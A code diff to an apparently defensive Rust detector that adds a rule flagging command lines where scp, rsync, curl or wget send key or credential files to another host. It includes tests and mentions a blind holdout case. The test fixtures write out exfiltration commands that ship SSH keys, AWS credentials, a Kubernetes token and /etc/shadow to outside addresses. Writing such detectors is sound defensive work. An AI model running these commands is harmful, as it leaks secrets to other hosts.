@@ -2108,6 +2108,11 @@ pub enum Step {
     /// the site and then asks has been steered there by a client (request forgery:
     /// `server_steered` in data/signals.yaml).
     InstanceMetadata,
+    /// Key or credential material named as what a copy or upload tool sends to another
+    /// host (`scp /keys/signing.key u@host:`, `curl -T id_rsa URL`), not as the tool's own
+    /// identity (`scp -i KEY`): the secret itself leaves, whichever address it goes to
+    /// (see [`sends_key_material`]).
+    KeySent,
 }
 
 impl Step {
@@ -2146,6 +2151,7 @@ impl Step {
             Step::StoreTaken => "a whole database, zone or keyring dumped or transferred",
             Step::LogDestroyed => "a log the same session had just created removed",
             Step::InstanceMetadata => "a connection to the cloud instance metadata service",
+            Step::KeySent => "key or credential material copied to another host",
         }
     }
 
@@ -2184,6 +2190,7 @@ impl Step {
             Step::StoreTaken => "データベース全体・DNS ゾーン・鍵束の一括取得・転送",
             Step::LogDestroyed => "同じセッションが作成した直後のログの削除",
             Step::InstanceMetadata => "クラウドのインスタンスメタデータサービスへの接続",
+            Step::KeySent => "鍵・認証情報そのものの他ホストへのコピー",
         }
     }
 }
@@ -2716,6 +2723,88 @@ fn key_or_password_file(base: &str) -> bool {
         || ["token", "tokens", "token.json", "token.txt", "tokens.csv"]
             .iter()
             .any(|x| ends(x))
+}
+
+/// Options of the copy and upload tools whose value is the tool's own configuration or
+/// identity, not what it sends: ssh's identity, configuration, options, program, port,
+/// cipher, limit and jump host (`scp`, `sftp`), rsync's remote shell and password file,
+/// curl's client certificate and key.
+const COPY_OWN_OPTIONS: &[&str] = &[
+    "-i", "-F", "-o", "-S", "-P", "-c", "-l", "-J", "-e", "--rsh", "-E", "--cert", "--key",
+    "--cacert", "--capath", "-u", "--user", "-H", "--header",
+];
+
+/// The key or credential material ([`is_credential_material`]) a copy or upload tool's
+/// command line names as what it sends to another host: a local source of `scp`, `sftp`
+/// or `rsync` when a destination is remote (`host:path`, `rsync://`), or what curl or
+/// wget upload (`-T FILE`, `--upload-file`, `-F name=@FILE`, `--data-binary @FILE`,
+/// `--post-file=FILE`). The values of the tool's own options ([`COPY_OWN_OPTIONS`]: an
+/// identity key, a client certificate) are not sent. Backups copy trees (`rsync -a /etc/
+/// host:`); naming the key itself is taking it.
+pub fn sends_key_material(name: &str, args: &[&str]) -> Option<String> {
+    let unq = |a: &str| a.trim_matches(|c| c == '"' || c == '\'').to_string();
+    // A relative name is judged by its name alone (`id_rsa`, `signing.key`).
+    let key = |a: &str| {
+        let probe = if a.starts_with('/') {
+            a.to_string()
+        } else {
+            format!("/{}", a.trim_start_matches("~/"))
+        };
+        is_credential_material(&probe).then(|| a.to_string())
+    };
+    let mut sent: Vec<String> = Vec::new();
+    match name {
+        "scp" | "sftp" | "rsync" => {
+            // The operands: sources, then the destination last.
+            let mut operands: Vec<String> = Vec::new();
+            let mut skip = false;
+            for a in args {
+                if skip {
+                    skip = false;
+                } else if a.starts_with('-') {
+                    skip = COPY_OWN_OPTIONS.contains(a);
+                } else {
+                    operands.push(unq(a));
+                }
+            }
+            let remote = |w: &str| {
+                w.starts_with("rsync://")
+                    || (!w.starts_with('/') && w.split('/').next().is_some_and(|h| h.contains(':')))
+            };
+            let (dest, sources) = operands.split_last()?;
+            if !remote(dest) {
+                return None;
+            }
+            sent.extend(sources.iter().filter(|w| !remote(w)).cloned());
+        }
+        "curl" | "wget" => {
+            let mut next_is_file = false;
+            for a in args {
+                let w = unq(a);
+                if next_is_file {
+                    next_is_file = false;
+                    sent.push(w.trim_start_matches('@').to_string());
+                    continue;
+                }
+                if matches!(w.as_str(), "-T" | "--upload-file") {
+                    next_is_file = true;
+                } else if let Some(f) = w
+                    .strip_prefix("--post-file=")
+                    .or_else(|| w.strip_prefix("--body-file="))
+                    .or_else(|| w.strip_prefix("--upload-file="))
+                {
+                    sent.push(f.to_string());
+                } else if let Some((_, f)) = w.split_once('@').filter(|(k, f)| {
+                    !f.is_empty() && (k.is_empty() || k.ends_with('=')) && !f.contains("://")
+                }) {
+                    // `-F file=@PATH`, `--data-binary @PATH`: the file's content is the body.
+                    sent.push(f.split(';').next().unwrap_or(f).to_string());
+                }
+            }
+        }
+        _ => return None,
+    }
+    sent.into_iter().find_map(|a| key(&a))
 }
 
 /// Whether a path lies in a directory of mounted secrets by its name (`/var/openfaas/secrets/`,
@@ -3311,6 +3400,9 @@ pub fn attack_step(ev: &FlatEvent) -> Option<(Step, String)> {
         {
             return Some((Step::HostAccess, p.to_string()));
         }
+        if let Some(p) = sends_key_material(&name, &args) {
+            return Some((Step::KeySent, p));
+        }
         // A general-purpose reader or copier naming credential material on its command
         // line reads or ships it (`cat token`, `base64 id_rsa`, `tar czf - ~/.aws`); a
         // program that destroys it (`shred`, `rm`) does not.
@@ -3874,6 +3966,75 @@ mod tests {
     /// A connection to the cloud instance metadata service is a step of its own, by
     /// address (IPv4, AWS's IPv6) or by GCP's name, and an activity although the address is
     /// link-local; another link-local or loopback address is neither.
+    /// Key material named as what a copy or upload tool sends is a step
+    /// (`Step::KeySent`); the tool's own identity, a tree copied whole, a download and an
+    /// ordinary file are not (the blind holdout19: a CronJob's `scp` carrying the card
+    /// tokenisation key to a host of the site, called a quiet job's work).
+    #[test]
+    fn key_material_copied_to_another_host_is_a_step() {
+        let sends = |cmd: &str| {
+            let words: Vec<&str> = cmd.split_whitespace().collect();
+            sends_key_material(words[0], &words[1..])
+        };
+        for (cmd, key) in [
+            (
+                "scp /keys/token-master.key afc@10.60.4.250:",
+                "/keys/token-master.key",
+            ),
+            (
+                "scp -i /keys/id_ed25519 -P 2222 /etc/ssl/private/site.key u@h:/tmp/",
+                "/etc/ssl/private/site.key",
+            ),
+            (
+                "rsync -av ~/.ssh/id_rsa backup@10.0.0.9:/srv/",
+                "~/.ssh/id_rsa",
+            ),
+            (
+                "rsync /home/a/.aws/credentials rsync://198.51.100.7/x/",
+                "/home/a/.aws/credentials",
+            ),
+            (
+                "curl -T /var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.9/u",
+                "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            ),
+            (
+                "curl -F f=@/root/.ssh/id_ed25519 https://paste.example/",
+                "/root/.ssh/id_ed25519",
+            ),
+            (
+                "wget --post-file=/etc/shadow http://203.0.113.9/",
+                "/etc/shadow",
+            ),
+        ] {
+            assert_eq!(sends(cmd).as_deref(), Some(key), "{cmd}");
+        }
+        for cmd in [
+            // The tool's own identity and configuration, not what it sends.
+            "scp -i /keys/id_ed25519 -o StrictHostKeyChecking=yes /data/hotlist-20261103.bin afc@10.60.4.21:/srv/",
+            "rsync -a -e \"ssh -i /root/.ssh/id_backup\" /etc/ backup@10.70.0.20:/srv/etc/",
+            "curl --cert /etc/pki/client.pem --key /etc/pki/private/client.key -T /data/report.csv https://10.0.0.5/u",
+            // A download of a key, a copy between local paths, a public key.
+            "scp u@h:/etc/ssl/private/site.key /etc/ssl/private/",
+            "rsync -a /etc/ssl/private/site.key /srv/backup/",
+            "scp /root/.ssh/id_rsa.pub u@h:",
+            "curl -u admin:secret https://h/x",
+        ] {
+            assert_eq!(sends(cmd), None, "{cmd}");
+        }
+        let exec = |cmd: &str| {
+            let name = cmd.split(' ').next().unwrap_or_default();
+            ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.exepath":format!("/usr/bin/{name}"),"proc.cmdline":cmd}).to_string())
+        };
+        assert_eq!(
+            attack_step(&exec("scp /keys/token-master.key afc@10.60.4.250:")).map(|s| s.0),
+            Some(Step::KeySent)
+        );
+        assert_ne!(
+            attack_step(&exec("scp -i /keys/id_ed25519 /data/h.bin afc@10.60.4.21:")).map(|s| s.0),
+            Some(Step::KeySent)
+        );
+    }
+
     #[test]
     fn the_instance_metadata_service_is_a_step_by_address_or_name() {
         for h in [
